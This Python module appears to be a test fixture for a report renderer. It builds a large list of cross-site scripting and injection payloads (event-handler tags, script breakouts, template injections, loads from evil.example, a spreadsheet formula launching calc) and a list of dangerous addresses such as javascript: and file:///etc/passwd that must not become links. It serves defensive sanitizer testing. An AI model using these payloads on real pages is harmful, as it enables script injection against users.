# ruff: noqa: E501  (a table of hostile texts)
"""Texts that try to run, load, steer or break a page: tried in every place of a report where foreign text is shown."""

from __future__ import annotations

CALL = "alert(1)"
HANDLERS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerrawupdate",
            "onbeforematch", "onscrollend", "ontransitionend", "oncontentvisibilityautostatechange")  # fmt: skip
ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x",
            "marquee", "a href=# tabindex=1", "style", "math", "select autofocus", "object data=x", "x contenteditable")  # fmt: skip

_TAGS = [f"<{element} {handler}={CALL}>" for element in ELEMENTS for handler in HANDLERS]
_BREAKS = [
    f"{end}<script>{CALL}</script>"
    for end in ("", "\">", "'>", "-->", "</title>", "</style>", "</textarea>", "]]>", "</svg>", "</text>", "</bdi></a>",
                "</table>", "\"'`>", "</noscript>", "</template>", "%3E", "&gt;", "\\\">", "</script>", "<!--", "<![CDATA[")
]  # fmt: skip
_ATTRIBUTES = [
    f"{quote}{gap}{handler}={CALL}{gap}x={quote}"
    for quote in ("\"", "'", "`", "") for gap in (" ", "\t", "\n", "/", "\x0c") for handler in ("onclick", "onfocus autofocus")
]  # fmt: skip
_ODD = [
    "<ScRiPt>alert(1)</sCrIpT>", "<scr\x00ipt>alert(1)</script>", "<<script>alert(1)//<</script>", "<script/src=//evil.example/x.js>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "[[alert(1)]]",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>go</button></form>", "<img src=//evil.example/x.png>", "<img srcset='//evil.example/y 1x'>",
    "<svg><use href='//evil.example/x.svg#x'/></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "[x](javascript:alert(1))",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", "}</style><script>alert(1)</script>",
    "<div style=\"background:url(//evil.example/z)\">", "<p style='position:fixed;inset:0'>cover</p>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "<embed src=javascript:alert(1)>",
    "<img src=x:x onerror=alert`1`>", "<svg/onload=alert(1)//", "<img src='x'onerror='alert(1)'", "<a id=s1-c1 name=s1-c1>clobber</a>",
    "<form id=articles><input name=attributes></form>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "\u202e<script>alert(1)</script>\u202c", "\u2028alert(1)\u2029", "\ufeff<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>", "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07", "\x00\x01\x7f\x80\x9f", "<" * 500, "\"" * 200, "&" * 200, "</" * 100,
    "<plaintext>", "<xmp>", "<!DOCTYPE html><html>", "<frameset onload=alert(1)>", "<portal src=//evil.example>", "<object data=//evil.example>",
]  # fmt: skip

PAYLOADS = tuple(dict.fromkeys(_TAGS + _BREAKS + _ATTRIBUTES + _ODD))

ADDRESSES = (  # none of these may become a link
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=", "vbscript:msgbox(1)", "file:///etc/passwd",
    "//evil.example/x", "\\\\evil.example\\x", "ftp://evil.example/x", "blob:https://evil.example/x", "https:evil.example", "http:///x",
    "https://evil.example/\" onclick=\"alert(1)", "https://evil.example/\u202egpj.exe", "https://ev\u0456l.example/", "http://[::1", "about:blank",
    "mailto:x@evil.example", "view-source:https://evil.example", "/relative/path", "#s1", "",
)  # fmt: skip
